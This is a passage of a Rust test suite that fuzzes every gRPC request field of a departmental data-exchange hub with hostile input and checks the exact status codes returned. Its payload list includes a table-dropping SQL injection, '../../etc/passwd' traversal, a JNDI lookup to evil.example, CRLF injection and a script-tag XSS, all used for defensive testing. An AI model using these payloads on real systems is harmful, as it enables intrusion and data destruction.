//! Hostile clients over real mutual TLS: every call gets its exact status, never INTERNAL or
//! UNKNOWN, a refused call changes nothing in the database, and the hub goes on serving.
//!
//! Covered: SQL, path and other metacharacters in every string field of every request message of
//! every service; requests that are not valid protobuf (garbage, invalid UTF-8 in a `string`
//! field, nesting past the decoder's limit) sent as raw gRPC frames, and how the trail records
//! them; oversized messages; deeply nested and huge JSON; huge repeated fields; negative and
//! overflowing numbers; forged and tampered page tokens; other departments' ids and resources;
//! slowloris connections; half-open and abandoned streams and uploads; many concurrent
//! connections. Each test prints how many hostile calls it made; the few whose answer is still
//! wrong, for want of a fix outside the handlers, are listed in [`KNOWN_BUGS`] with where the fix
//! belongs, and printed instead of made.

use std::sync::atomic::{AtomicU32, Ordering};
use std::time::{Duration, Instant};

use tonic::codegen::{Bytes, Service, http};
use tonic::transport::Channel;
use tonic::{Code, Status};
use xinqiao_domain::access::{AccessGrant, AccessRequest, ErrorReport};
use xinqiao_domain::schema::{RegisteredSchema, Subject};
use xinqiao_hub::pki;
use xinqiao_store::{
    ConsumerCursor, DatasetFilter, DatasetListing, EntrySchemaBinding, GrantFilter, ReportFilter, RequestFilter,
    StoredChange, Upload,
};
use xinqiao_tests::v1 as pb;
use xinqiao_tests::v1::evaluation_service_client::EvaluationServiceClient;
use xinqiao_tests::*;

on_each_backend!(
    hostile_text_in_every_string_field,
    malformed_protobuf_is_invalid_argument,
    oversized_messages_are_resource_exhausted,
    deep_and_huge_json_is_refused,
    huge_repeated_fields_are_refused,
    overflowing_numbers_are_refused,
    forged_page_tokens_are_refused,
    other_departments_resources_are_refused,
    slowloris_connections_are_dropped,
    half_open_streams_commit_nothing_partial,
    abandoned_uploads_keep_whole_chunks_only,
    many_concurrent_connections_are_served,
);

type Evaluation = EvaluationServiceClient<Channel>;

// ---------------------------------------------------------------------------------------------
// The world the hostile calls are made in

/// A 使用方 registered at start, whose applications the matrix makes and withdraws.
fn applicant() -> String {
    uscc(7001)
}

/// A hub with something of everything: datasets of each kind with records and a file, a grant, a
/// pending access request, an error report, a consumer cursor, an unfinished upload, a draft, a
/// published entry without a dataset; and a channel for each party.
struct World {
    hub: TestHub,
    admin: Channel,
    samr: Channel,
    police: Channel,
    hrss: Channel,
    extra: Channel,
    /// SAMR's 无条件共享 table dataset on legal-entity keyed by uscc, with three records.
    open: String,
    /// SAMR's file dataset with one file, `annual-report.pdf`.
    files: String,
    /// POLICE's 有条件共享 dataset on [`RESIDENTS`], with two records.
    cond: String,
    /// HRSS's active grant on `cond`.
    grant: String,
    /// SAMR's pending request for `cond`.
    pending: String,
    /// HRSS's open error report on `open`.
    report: String,
    /// SAMR's unfinished upload to `files` (10 of 100 bytes received).
    upload: String,
    /// SAMR's published entry without a dataset.
    spare: String,
    /// SAMR's draft entry.
    draft: String,
    /// Serial numbers for what the calls create.
    serial: AtomicU32,
}

impl World {
    async fn start(backend: Backend) -> World {
        Self::start_hub(TestHub::start_on(backend).await).await
    }

    async fn start_hub(hub: TestHub) -> World {
        hub.import_resident_schema().await;
        let dir = hub.pki_dir();
        let admin = hub.admin_channel().await;
        let samr = hub.channel(pki::department_files(&dir, SAMR)).await;
        let police = hub.channel(pki::department_files(&dir, POLICE)).await;
        let hrss = hub.channel(pki::department_files(&dir, HRSS)).await;
        ok(Directory::new(admin.clone())
            .register_department(register_request(&applicant(), "市民政局"))
            .await);
        hub.issue_dept(&applicant()).await;
        let extra = hub.channel(pki::department_files(&dir, &applicant())).await;

        let open = hub
            .open_table(SAMR, content("企业登记信息", "102001", "本市企业的营业执照登记信息"))
            .await
            .dataset;
        let mut exchange = Exchange::new(samr.clone());
        let seeded = ok(exchange.publish(companies(&open, "seed", 1..=3)).await);
        assert_eq!(seeded.accepted, 3);
        let files = hub
            .open_files(SAMR, content("企业年度报告", "102002", "企业年度报告文件"))
            .await
            .dataset;
        hub.upload_file(SAMR, &files, "annual-report.pdf", b"%PDF-1.7 annual report")
            .await;
        let upload = ok(exchange
            .start_upload(pb::StartUploadRequest {
                dataset: files.clone(),
                file_name: "partial.bin".into(),
                size: 100,
                sha256: sha256_hex(&[7; 100]),
            })
            .await)
        .upload_id;
        let part = pb::FileChunk {
            upload_id: upload.clone(),
            offset: 0,
            data: vec![7; 10],
        };
        assert_eq!(
            ok(exchange.upload_chunks(tokio_stream::iter(vec![part])).await).received,
            10
        );

        let cond = hub
            .open_residents(POLICE, "低保对象联系信息", pb::ShareType::Conditional)
            .await
            .dataset;
        let residents = batch(
            &cond,
            "seed",
            vec![upsert_resident(1, "张三"), upsert_resident(2, "李四")],
        );
        assert_eq!(ok(Exchange::new(police.clone()).publish(residents).await).accepted, 2);
        let fields = ["resident_id", "name"];
        let (_, grant) = hub.grant(POLICE, HRSS, &cond, &fields, approval(&fields, &[])).await;
        let pending = hub.apply(SAMR, &cond, &fields).await.request_id;
        let report = ok(Access::new(hrss.clone())
            .report_error(pb::ReportErrorRequest {
                dataset: open.clone(),
                sequence: 1,
                key: Vec::new(),
                description: "企业名称有误".into(),
            })
            .await)
        .report_id;
        ok(Exchange::new(hrss.clone())
            .acknowledge(pb::AcknowledgeRequest {
                dataset: open.clone(),
                consumer: "etl".into(),
                sequence: 1,
            })
            .await);
        let spare = hub
            .published_entry(SAMR, content("企业变更登记信息", "102001", "企业变更登记"))
            .await;
        let draft = ok(Directory::new(samr.clone())
            .create_entry(create(content("企业注销信息", "102001", "企业注销登记")))
            .await)
        .resource_code;
        World {
            hub,
            admin,
            samr,
            police,
            hrss,
            extra,
            open,
            files,
            cond,
            grant: grant.grant_id,
            pending,
            report,
            upload,
            spare,
            draft,
            serial: AtomicU32::new(1),
        }
    }

    fn next(&self) -> u32 {
        self.serial.fetch_add(1, Ordering::Relaxed)
    }

    /// A department registered now, for a call that changes or deactivates one.
    async fn fresh_department(&self) -> String {
        let code = uscc(8000 + self.next());
        ok(Directory::new(self.admin.clone())
            .register_department(register_request(&code, "临时部门"))
            .await);
        code
    }

    /// A draft entry of SAMR made now.
    async fn fresh_draft(&self) -> String {
        let name = format!("临时条目{}", self.next());
        ok(Directory::new(self.samr.clone())
            .create_entry(create(content(&name, "102001", "临时")))
            .await)
        .resource_code
    }

    /// A request of the applicant for `cond`, pending now.
    async fn fresh_request(&self) -> String {
        ok(Access::new(self.extra.clone())
            .request_access(request_access(application(&self.cond, &["resident_id", "name"])))
            .await)
        .request_id
    }

    /// An active grant of the applicant on `cond`, issued now.
    async fn fresh_grant(&self) -> String {
        let request = self.fresh_request().await;
        let approved = ok(Access::new(self.police.clone())
            .approve_request(pb::ApproveRequestRequest {
                request_id: request,
                ..approval(&[], &[])
            })
            .await);
        approved.grant_id
    }

    /// An open error report of HRSS on `open`, made now.
    async fn fresh_report(&self) -> String {
        ok(Access::new(self.hrss.clone())
            .report_error(pb::ReportErrorRequest {
                dataset: self.open.clone(),
                sequence: 2,
                key: Vec::new(),
                description: "法定代表人有误".into(),
            })
            .await)
        .report_id
    }

    /// Everything the hub has stored that a call could change, apart from the audit trail.
    async fn everything(&self) -> Everything {
        let store = self.hub.store();
        let directory = self.hub.snapshot().await;
        let subjects = store.list_subjects(None, 100_000, true).await.expect("subjects");
        let mut schemas = Vec::new();
        for subject in &subjects {
            schemas.push(
                store
                    .list_schema_versions(&subject.name, true)
                    .await
                    .expect("schema versions"),
            );
        }
        let mut bindings = Vec::new();
        for entry in &directory.entries {
            bindings.push(store.entry_schema(&entry.resource_code).await.expect("binding"));
        }
        let datasets = store
            .list_datasets(&DatasetFilter::default(), None, 100_000)
            .await
            .expect("datasets");
        let mut changes = Vec::new();
        for listing in &datasets {
            changes.push(
                store
                    .fetch_changes(&listing.dataset.id, 0, 100_000)
                    .await
                    .expect("changes"),
            );
        }
        Everything {
            directory,
            subjects,
            schemas,
            bindings,
            default_mode: format!("{:?}", store.default_compatibility().await.expect("default mode")),
            datasets,
            changes,
            requests: store
                .list_requests(&RequestFilter::default(), None, 100_000)
                .await
                .expect("requests"),
            grants: store
                .list_grants(&GrantFilter::default(), None, 100_000)
                .await
                .expect("grants"),
            reports: store
                .list_reports(&ReportFilter::default(), None, 100_000)
                .await
                .expect("reports"),
            uploads: vec![store.get_upload(&self.upload).await.expect("upload")],
            consumers: vec![store.get_consumer(&self.open, HRSS, "etl").await.expect("consumer")],
        }
    }

    /// The hub still answers an ordinary call, and a department reads what it read before.
    async fn still_serving(&self) {
        let me = ok(Directory::new(self.samr.clone()).who_am_i(pb::WhoAmIRequest {}).await);
        assert!(matches!(me.identity, Some(pb::who_am_i_response::Identity::Department(d)) if d.code == SAMR));
        let mut hrss = Exchange::new(self.hrss.clone());
        let stored = self.hub.store().get_dataset(&self.open).await.expect("dataset");
        let last = stored.expect("the open dataset").last_sequence;
        assert_eq!(fetch_all(&mut hrss, &self.open, 0).await.len() as u64, last);
    }

    async fn finish(self) {
        self.still_serving().await;
        self.hub.finish().await;
    }
}

/// Everything stored apart from the audit trail (see [`World::everything`]).
#[derive(Debug, PartialEq)]
struct Everything {
    directory: Snapshot,
    subjects: Vec<Subject>,
    schemas: Vec<Vec<RegisteredSchema>>,
    bindings: Vec<Option<EntrySchemaBinding>>,
    default_mode: String,
    datasets: Vec<DatasetListing>,
    changes: Vec<(Vec<StoredChange>, u64)>,
    requests: Vec<AccessRequest>,
    grants: Vec<AccessGrant>,
    reports: Vec<ErrorReport>,
    uploads: Vec<Option<Upload>>,
    consumers: Vec<Option<ConsumerCursor>>,
}

/// The code of a call's outcome.
fn code_of<T>(result: &Result<T, Status>) -> Code {
    match result {
        Ok(_) => Code::Ok,
        Err(status) => status.code(),
    }
}

/// Hostile calls whose answer is known to be wrong, with where the fix belongs; they are not made
/// (a broken answer also breaks the connection for the calls after it). Remove an entry once its
/// fix is in: the call is then checked like the others.
const KNOWN_BUGS: &[(&str, &str)] = &[];

/// Half-sent calls one connection holds open in the half-open test: below the hub's 200 streams a
/// connection, so that a further call still fits.
const HANGING: usize = 190;

/// Tallies hostile calls and the ones that did not get their expected code, to report them all
/// at once.
#[derive(Default)]
struct Tally {
    calls: usize,
    wrong: Vec<String>,
    skipped: Vec<String>,
}

impl Tally {
    /// Whether `what` is a known bug, to be left out (noted in the test's output).
    fn known_bug(&mut self, what: &str) -> bool {
        match KNOWN_BUGS.iter().find(|(call, _)| *call == what) {
            Some((call, fix)) => {
                self.skipped.push(format!("{call} ({fix})"));
                true
            }
            None => false,
        }
    }

    fn check<T>(&mut self, what: &str, result: &Result<T, Status>, expected: Code) {
        self.calls += 1;
        let got = code_of(result);
        if got != expected {
            let message = result.as_ref().err().map(|s| s.message()).unwrap_or_default();
            self.wrong.push(format!(
                "{what}: expected {expected:?}, got {got:?} {}",
                xinqiao_domain::text::shorten(message, 160)
            ));
        }
    }

    #[track_caller]
    fn assert_all_right(&self, test: &str) {
        eprintln!("{test}: {} hostile calls", self.calls);
        for skipped in &self.skipped {
            eprintln!("{test}: not made, a known bug: {skipped}");
        }
        assert!(
            self.wrong.is_empty(),
            "{} of {} calls got the wrong status:\n{}",
            self.wrong.len(),
            self.calls,
            self.wrong.join("\n")
        );
    }
}

// ---------------------------------------------------------------------------------------------
// Hostile text in every string field

/// The text a hostile client puts in a string field.
fn hostile_strings() -> Vec<(&'static str, String)> {
    vec![
        ("sql", "'; DROP TABLE departments; --".into()),
        ("path", "../../etc/passwd".into()),
        ("percent-nul", "%00".into()),
        ("nul", "\u{0}".into()),
        ("jndi", "${jndi:ldap://evil.example/a}".into()),
        ("long", "長".repeat(70_000)),
        ("rtl", "\u{202E}fdp.exe".into()),
        ("emoji", "🏛️💥🇨🇳".into()),
        ("crlf", "a\r\nX-Injected: 1".into()),
        ("markup", "%s%n<script>alert(1)</script>".into()),
    ]
}

/// What the hub does with a hostile string in a field.
#[derive(Debug, Clone, Copy)]
enum Kind {
    /// The field names something that must exist, and nothing is called that: NOT_FOUND.
    Missing,
    /// The field has a fixed shape (a code, a date, a token the hub issued, a name from a small
    /// alphabet, JSON): INVALID_ARGUMENT.
    Shape,
    /// Free text of at most `max` characters without control characters (newline, carriage
    /// return and tab allowed where `multiline`): taken as given (OK) when it fits, else
    /// INVALID_ARGUMENT.
    Text { max: usize, multiline: bool },
    /// A file name: no '/', '\' or control characters, at most 255 bytes. When it fits: OK, or
    /// NOT_FOUND where the file must exist.
    FileName { must_exist: bool },
    /// This code whatever the text.
    Always(Code),
}

impl Kind {
    fn expected(self, text: &str) -> Code {
        // No string field of any request may hold U+0000: the codec refuses it before any handler.
        if text.contains('\0') {
            return Code::InvalidArgument;
        }
        let fits_text = |max: usize, multiline: bool| {
            text.chars().count() <= max
                && !text
                    .chars()
                    .any(|c| c.is_control() && !(multiline && matches!(c, '\n' | '\r' | '\t')))
        };
        match self {
            Kind::Missing => Code::NotFound,
            Kind::Shape => Code::InvalidArgument,
            Kind::Text { max, multiline } if fits_text(max, multiline) => Code::Ok,
            Kind::Text { .. } => Code::InvalidArgument,
            Kind::FileName { must_exist } => {
                let fits = text.len() <= 255 && !text.chars().any(|c| c == '/' || c == '\\' || c.is_control());
                match (fits, must_exist) {
                    (false, _) => Code::InvalidArgument,
                    (true, true) => Code::NotFound,
                    (true, false) => Code::Ok,
                }
            }
            Kind::Always(code) => code,
        }
    }
}

const fn text(max: usize) -> Kind {
    Kind::Text { max, multiline: false }
}

const fn lines(max: usize) -> Kind {
    Kind::Text { max, multiline: true }
}

/// Every string field of every request message of every service, with what a hostile value in
/// it gets. Names are `Service/Method field`, the field as the message names it.
const FIELDS: &[(&str, &str, Kind)] = &[
    ("Directory/RegisterDepartment", "code", Kind::Shape),
    ("Directory/RegisterDepartment", "name", text(200)),
    ("Directory/RegisterDepartment", "division_code", Kind::Shape),
    ("Directory/RegisterDepartment", "contact", text(200)),
    ("Directory/UpdateDepartment", "code", Kind::Shape),
    ("Directory/UpdateDepartment", "name", text(200)),
    ("Directory/UpdateDepartment", "division_code", Kind::Shape),
    ("Directory/UpdateDepartment", "contact", text(200)),
    ("Directory/DeactivateDepartment", "code", Kind::Shape),
    ("Directory/DeactivateDepartment", "reason", lines(2000)),
    ("Directory/ReactivateDepartment", "code", Kind::Shape),
    ("Directory/GetDepartment", "code", Kind::Missing),
    ("Directory/ListDepartments", "page_token", Kind::Shape),
    ("Directory/CreateEntry", "content.name", text(200)),
    ("Directory/CreateEntry", "content.classification", Kind::Shape),
    ("Directory/CreateEntry", "content.summary", lines(4000)),
    ("Directory/CreateEntry", "content.items[0].name", text(100)),
    ("Directory/CreateEntry", "content.items[0].data_type", text(32)),
    ("Directory/CreateEntry", "content.items[0].description", lines(2000)),
    ("Directory/CreateEntry", "content.share.condition", lines(2000)),
    ("Directory/CreateEntry", "content.share.legal_basis", lines(2000)),
    ("Directory/CreateEntry", "content.open.condition", lines(2000)),
    ("Directory/CreateEntry", "content.related_codes[0]", Kind::Shape),
    ("Directory/CreateEntry", "content.maintainer", text(200)),
    ("Directory/UpdateEntry", "resource_code", Kind::Missing),
    ("Directory/UpdateEntry", "content.name", text(200)),
    ("Directory/UpdateEntry", "content.summary", lines(4000)),
    ("Directory/SubmitEntry", "resource_code", Kind::Missing),
    ("Directory/PublishEntry", "resource_code", Kind::Missing),
    ("Directory/ReturnEntry", "resource_code", Kind::Missing),
    ("Directory/ReturnEntry", "reason", lines(2000)),
    ("Directory/WithdrawEntry", "resource_code", Kind::Missing),
    ("Directory/WithdrawEntry", "reason", lines(2000)),
    ("Directory/GetEntry", "resource_code", Kind::Missing),
    ("Directory/ListEntryVersions", "resource_code", Kind::Missing),
    ("Directory/SearchEntries", "keyword", text(200)),
    ("Directory/SearchEntries", "classification_prefix", Kind::Shape),
    ("Directory/SearchEntries", "provider_code", text(18)),
    ("Directory/SearchEntries", "page_token", Kind::Shape),
    ("Schema/RegisterSchema", "subject", Kind::Shape),
    ("Schema/RegisterSchema", "schema_json", Kind::Shape),
    ("Schema/CheckCompatibility", "subject", Kind::Shape),
    ("Schema/CheckCompatibility", "schema_json", Kind::Shape),
    ("Schema/GetSchema", "subject", Kind::Shape),
    ("Schema/ListSubjects", "page_token", Kind::Shape),
    ("Schema/ListSchemaVersions", "subject", Kind::Shape),
    ("Schema/DeleteSchemaVersion", "subject", Kind::Shape),
    ("Schema/GetCompatibility", "subject", Kind::Shape),
    ("Schema/SetCompatibility", "subject", Kind::Shape),
    ("Schema/ValidateRecords", "subject", Kind::Shape),
    ("Schema/ValidateRecords", "records[0]", Kind::Always(Code::Ok)),
    ("Schema/BindEntrySchema", "resource_code", Kind::Missing),
    ("Schema/BindEntrySchema", "subject", Kind::Shape),
    ("Schema/GetEntrySchema", "resource_code", Kind::Missing),
    ("Schema/DraftSchemaFromEntry", "resource_code", Kind::Missing),
    ("Exchange/CreateDataset", "dataset", Kind::Missing),
    ("Exchange/CreateDataset", "schema_subject", Kind::Shape),
    ("Exchange/CreateDataset", "key[0]", Kind::Shape),
    ("Exchange/UpgradeDatasetSchema", "dataset", Kind::Missing),
    ("Exchange/GetDataset", "dataset", Kind::Missing),
    ("Exchange/ListDatasets", "keyword", text(200)),
    ("Exchange/ListDatasets", "provider_code", Kind::Always(Code::Ok)),
    ("Exchange/ListDatasets", "page_token", Kind::Shape),
    ("Exchange/Publish", "dataset", Kind::Missing),
    ("Exchange/Publish", "idempotency_key", text(200)),
    ("Exchange/PublishStream", "dataset", Kind::Missing),
    ("Exchange/PublishStream", "idempotency_key", text(200)),
    ("Exchange/Fetch", "dataset", Kind::Missing),
    ("Exchange/Fetch", "purpose", text(500)),
    ("Exchange/Fetch", "grant_id", Kind::Always(Code::PermissionDenied)),
    ("Exchange/Snapshot", "dataset", Kind::Missing),
    ("Exchange/Snapshot", "purpose", text(500)),
    ("Exchange/Snapshot", "grant_id", Kind::Always(Code::PermissionDenied)),
    ("Exchange/Subscribe", "dataset", Kind::Missing),
    ("Exchange/Subscribe", "consumer", Kind::Shape),
    ("Exchange/Subscribe", "purpose", text(500)),
    ("Exchange/Subscribe", "grant_id", Kind::Always(Code::PermissionDenied)),
    ("Exchange/Acknowledge", "dataset", Kind::Missing),
    ("Exchange/Acknowledge", "consumer", Kind::Shape),
    ("Exchange/GetConsumer", "dataset", Kind::Missing),
    ("Exchange/GetConsumer", "consumer", Kind::Shape),
    ("Exchange/StartUpload", "dataset", Kind::Missing),
    (
        "Exchange/StartUpload",
        "file_name",
        Kind::FileName { must_exist: false },
    ),
    ("Exchange/StartUpload", "sha256", Kind::Shape),
    ("Exchange/GetUploadStatus", "upload_id", Kind::Missing),
    ("Exchange/UploadChunks", "upload_id", Kind::Missing),
    ("Exchange/DownloadFile", "dataset", Kind::Missing),
    (
        "Exchange/DownloadFile",
        "file_name",
        Kind::FileName { must_exist: true },
    ),
    ("Exchange/DownloadFile", "purpose", text(500)),
    ("Exchange/DownloadFile", "grant_id", Kind::Always(Code::Ok)),
    ("Access/RequestAccess", "application.dataset", Kind::Missing),
    ("Access/RequestAccess", "application.purpose", lines(500)),
    ("Access/RequestAccess", "application.scope", lines(500)),
    ("Access/RequestAccess", "application.fields[0]", Kind::Shape),
    ("Access/RequestAccess", "application.period_from", Kind::Shape),
    ("Access/RequestAccess", "application.period_until", Kind::Shape),
    ("Access/RequestAccess", "application.business_system", text(200)),
    ("Access/ApproveRequest", "request_id", Kind::Missing),
    ("Access/ApproveRequest", "fields[0]", Kind::Shape),
    ("Access/ApproveRequest", "masks[0].field", Kind::Shape),
    ("Access/ApproveRequest", "masks[0].rule", Kind::Shape),
    ("Access/ApproveRequest", "note", lines(1000)),
    ("Access/RejectRequest", "request_id", Kind::Missing),
    ("Access/RejectRequest", "reason", lines(1000)),
    ("Access/WithdrawRequest", "request_id", Kind::Missing),
    ("Access/GetRequest", "request_id", Kind::Missing),
    ("Access/ListRequests", "dataset", Kind::Always(Code::Ok)),
    ("Access/ListRequests", "page_token", Kind::Shape),
    ("Access/GetGrant", "grant_id", Kind::Missing),
    ("Access/ListGrants", "dataset", Kind::Always(Code::Ok)),
    ("Access/ListGrants", "page_token", Kind::Shape),
    ("Access/RevokeGrant", "grant_id", Kind::Missing),
    ("Access/RevokeGrant", "reason", lines(1000)),
    ("Access/ReportError", "dataset", Kind::Missing),
    ("Access/ReportError", "description", lines(1000)),
    ("Access/ResolveReport", "report_id", Kind::Missing),
    ("Access/ResolveReport", "reason", lines(1000)),
    ("Access/GetReport", "report_id", Kind::Missing),
    ("Access/ListReports", "dataset", Kind::Always(Code::Ok)),
    ("Access/ListReports", "page_token", Kind::Shape),
    ("Audit/ListEvents", "actor", text(200)),
    ("Audit/ListEvents", "target", text(200)),
    ("Audit/ListEvents", "action", text(200)),
    ("Audit/ListEvents", "page_token", Kind::Shape),
    ("Evaluation/GetScorecard", "department", Kind::Missing),
    ("Evaluation/GetScorecard", "from", Kind::Shape),
    ("Evaluation/GetScorecard", "to", Kind::Shape),
    ("Evaluation/GetRanking", "from", Kind::Shape),
    ("Evaluation/GetRanking", "to", Kind::Shape),
];

/// Drops a call's answer, keeping its status.
fn status<T>(result: Result<tonic::Response<T>, Status>) -> Result<(), Status> {
    result.map(drop)
}

/// The first message of a stream or its refusal, as a unary outcome.
async fn streamed<T>(call: Result<tonic::Response<tonic::Streaming<T>>, Status>) -> Result<(), Status> {
    first_message(call).await.map(drop)
}

/// An entry content with one field set to `v`.
fn content_with(field: &str, v: String) -> pb::EntryContent {
    let mut c = content("企业经营异常名录", "102001", "列入经营异常名录的企业");
    match field {
        "content.name" => c.name = v,
        "content.classification" => c.classification = v,
        "content.summary" => c.summary = v,
        "content.items[0].name" => c.items[0].name = v,
        "content.items[0].data_type" => c.items[0].data_type = v,
        "content.items[0].description" => c.items[0].description = v,
        "content.share.condition" => c.share.as_mut().expect("share").condition = v,
        "content.share.legal_basis" => c.share.as_mut().expect("share").legal_basis = v,
        "content.open.condition" => c.open.as_mut().expect("open").condition = v,
        "content.related_codes[0]" => c.related_codes = vec![v],
        "content.maintainer" => c.maintainer = v,
        other => panic!("no content field {other}"),
    }
    c
}

/// What a call that changes something acts on, made for it: a department, an entry pending review,
/// a draft, a pending request, a grant or an open report. Empty for the other calls.
async fn fixture(w: &World, rpc: &str, field: &str) -> String {
    match (rpc, field) {
        ("Directory/UpdateDepartment", _) | ("Directory/DeactivateDepartment", "reason") => w.fresh_department().await,
        ("Directory/ReturnEntry", "reason") => {
            let code = w.fresh_draft().await;
            ok(Directory::new(w.samr.clone()).submit_entry(submit(&code)).await);
            code
        }
        ("Directory/WithdrawEntry", "reason") => w.fresh_draft().await,
        ("Access/ApproveRequest", "note") | ("Access/RejectRequest", "reason") => w.fresh_request().await,
        ("Access/RevokeGrant", "reason") => w.fresh_grant().await,
        ("Access/ResolveReport", "reason") => w.fresh_report().await,
        _ => String::new(),
    }
}

/// Makes the call named `rpc` with `field` set to `v` and everything else valid, as the party
/// that may make it (the admin, the provider or a reader), on `made` (see [`fixture`]) when the
/// call changes something. Its outcome.
async fn call(w: &World, rpc: &str, field: &str, made: &str, v: String) -> Result<(), Status> {
    let mut admin = Directory::new(w.admin.clone());
    let mut samr = Directory::new(w.samr.clone());
    let mut schemas = Schemas::new(w.admin.clone());
    let mut samr_schemas = Schemas::new(w.samr.clone());
    let mut samr_exchange = Exchange::new(w.samr.clone());
    let mut hrss_exchange = Exchange::new(w.hrss.clone());
    let mut police_access = Access::new(w.police.clone());
    let mut hrss_access = Access::new(w.hrss.clone());
    let mut samr_access = Access::new(w.samr.clone());
    let mut extra_access = Access::new(w.extra.clone());
    let mut audit = Audit::new(w.admin.clone());
    let mut evaluation = Evaluation::new(w.admin.clone());
    let set = |target: &mut String| *target = v.clone();
    match (rpc, field) {
        ("Directory/RegisterDepartment", _) => {
            let mut r = register_request(&uscc(9000 + w.next()), "临时部门");
            match field {
                "code" => set(&mut r.code),
                "name" => set(&mut r.name),
                "division_code" => set(&mut r.division_code),
                _ => set(&mut r.contact),
            }
            status(admin.register_department(r).await)
        }
        ("Directory/UpdateDepartment", _) => {
            let mut r = pb::UpdateDepartmentRequest {
                code: made.into(),
                name: "临时部门".into(),
                division_code: "330100".into(),
                contact: String::new(),
            };
            match field {
                "code" => set(&mut r.code),
                "name" => set(&mut r.name),
                "division_code" => set(&mut r.division_code),
                _ => set(&mut r.contact),
            }
            status(admin.update_department(r).await)
        }
        ("Directory/DeactivateDepartment", "code") => status(
            admin
                .deactivate_department(pb::DeactivateDepartmentRequest {
                    code: v,
                    reason: String::new(),
                })
                .await,
        ),
        ("Directory/DeactivateDepartment", _) => status(
            admin
                .deactivate_department(pb::DeactivateDepartmentRequest {
                    code: made.into(),
                    reason: v,
                })
                .await,
        ),
        ("Directory/ReactivateDepartment", _) => status(
            admin
                .reactivate_department(pb::ReactivateDepartmentRequest { code: v })
                .await,
        ),
        ("Directory/GetDepartment", _) => status(samr.get_department(pb::GetDepartmentRequest { code: v }).await),
        ("Directory/ListDepartments", _) => status(
            samr.list_departments(pb::ListDepartmentsRequest {
                page_token: v,
                ..Default::default()
            })
            .await,
        ),
        ("Directory/CreateEntry", _) => status(samr.create_entry(create(content_with(field, v))).await),
        ("Directory/UpdateEntry", "resource_code") => status(
            samr.update_entry(update(&v, content_with("content.name", "新名称".into())))
                .await,
        ),
        ("Directory/UpdateEntry", _) => status(samr.update_entry(update(&w.draft, content_with(field, v))).await),
        ("Directory/SubmitEntry", _) => status(samr.submit_entry(submit(&v)).await),
        ("Directory/PublishEntry", _) => status(admin.publish_entry(publish(&v)).await),
        ("Directory/ReturnEntry", "resource_code") => status(admin.return_entry(return_with(&v, "请补充摘要")).await),
        ("Directory/ReturnEntry", _) => status(admin.return_entry(return_with(made, &v)).await),
        ("Directory/WithdrawEntry", "resource_code") => status(samr.withdraw_entry(withdraw(&v, "")).await),
        ("Directory/WithdrawEntry", _) => status(samr.withdraw_entry(withdraw(made, &v)).await),
        ("Directory/GetEntry", _) => status(samr.get_entry(get(&v, 0)).await),
        ("Directory/ListEntryVersions", _) => status(samr.list_entry_versions(versions(&v)).await),
        ("Directory/SearchEntries", _) => {
            let mut r = pb::SearchEntriesRequest::default();
            match field {
                "keyword" => set(&mut r.keyword),
                "classification_prefix" => set(&mut r.classification_prefix),
                "provider_code" => set(&mut r.provider_code),
                _ => set(&mut r.page_token),
            }
            status(samr.search_entries(r).await)
        }
        ("Schema/RegisterSchema", _) => {
            let mut r = pb::RegisterSchemaRequest {
                subject: format!("hostile-{}", w.next()),
                schema_json: r#"{"type":"object"}"#.into(),
            };
            match field {
                "subject" => set(&mut r.subject),
                _ => set(&mut r.schema_json),
            }
            status(schemas.register_schema(r).await)
        }
        ("Schema/CheckCompatibility", _) => {
            let mut r = pb::CheckCompatibilityRequest {
                subject: LEGAL_ENTITY.into(),
                schema_json: r#"{"type":"object"}"#.into(),
                mode: 0,
            };
            match field {
                "subject" => set(&mut r.subject),
                _ => set(&mut r.schema_json),
            }
            status(schemas.check_compatibility(r).await)
        }
        ("Schema/GetSchema", _) => status(
            samr_schemas
                .get_schema(pb::GetSchemaRequest {
                    subject: v,
                    ..Default::default()
                })
                .await,
        ),
        ("Schema/ListSubjects", _) => status(
            samr_schemas
                .list_subjects(pb::ListSubjectsRequest {
                    page_token: v,
                    ..Default::default()
                })
                .await,
        ),
        ("Schema/ListSchemaVersions", _) => status(
            samr_schemas
                .list_schema_versions(pb::ListSchemaVersionsRequest {
                    subject: v,
                    include_deleted: true,
                })
                .await,
        ),
        ("Schema/DeleteSchemaVersion", _) => status(
            schemas
                .delete_schema_version(pb::DeleteSchemaVersionRequest {
                    subject: v,
                    version: 1,
                    permanent: false,
                })
                .await,
        ),
        ("Schema/GetCompatibility", _) => status(
            samr_schemas
                .get_compatibility(pb::GetCompatibilityRequest { subject: v })
                .await,
        ),
        ("Schema/SetCompatibility", _) => status(
            schemas
                .set_compatibility(pb::SetCompatibilityRequest {
                    subject: v,
                    mode: pb::CompatibilityMode::Full as i32,
                })
                .await,
        ),
        ("Schema/ValidateRecords", _) => {
            let mut r = pb::ValidateRecordsRequest {
                subject: LEGAL_ENTITY.into(),
                version: 0,
                records: vec![company(1).to_string()],
                lenient: false,
            };
            match field {
                "subject" => set(&mut r.subject),
                _ => r.records = vec![v],
            }
            status(samr_schemas.validate_records(r).await)
        }
        ("Schema/BindEntrySchema", _) => {
            let mut r = pb::BindEntrySchemaRequest {
                resource_code: w.draft.clone(),
                subject: LEGAL_ENTITY.into(),
                version: 0,
            };
            match field {
                "resource_code" => set(&mut r.resource_code),
                _ => set(&mut r.subject),
            }
            status(samr_schemas.bind_entry_schema(r).await)
        }
        ("Schema/GetEntrySchema", _) => status(
            samr_schemas
                .get_entry_schema(pb::GetEntrySchemaRequest { resource_code: v })
                .await,
        ),
        ("Schema/DraftSchemaFromEntry", _) => status(
            samr_schemas
                .draft_schema_from_entry(pb::DraftSchemaFromEntryRequest { resource_code: v })
                .await,
        ),
        ("Exchange/CreateDataset", _) => {
            let mut r = table_dataset(&w.spare, &["uscc"]);
            match field {
                "dataset" => set(&mut r.dataset),
                "schema_subject" => set(&mut r.schema_subject),
                _ => r.key = vec![v],
            }
            status(samr_exchange.create_dataset(r).await)
        }
        ("Exchange/UpgradeDatasetSchema", _) => status(
            samr_exchange
                .upgrade_dataset_schema(pb::UpgradeDatasetSchemaRequest {
                    dataset: v,
                    schema_version: 2,
                })
                .await,
        ),
        ("Exchange/GetDataset", _) => status(hrss_exchange.get_dataset(get_dataset(&v)).await),
        ("Exchange/ListDatasets", _) => {
            let mut r = pb::ListDatasetsRequest::default();
            match field {
                "keyword" => set(&mut r.keyword),
                "provider_code" => set(&mut r.provider_code),
                _ => set(&mut r.page_token),
            }
            status(hrss_exchange.list_datasets(r).await)
        }
        ("Exchange/Publish", _) => {
            let mut r = batch(&w.open, "hostile", Vec::new());
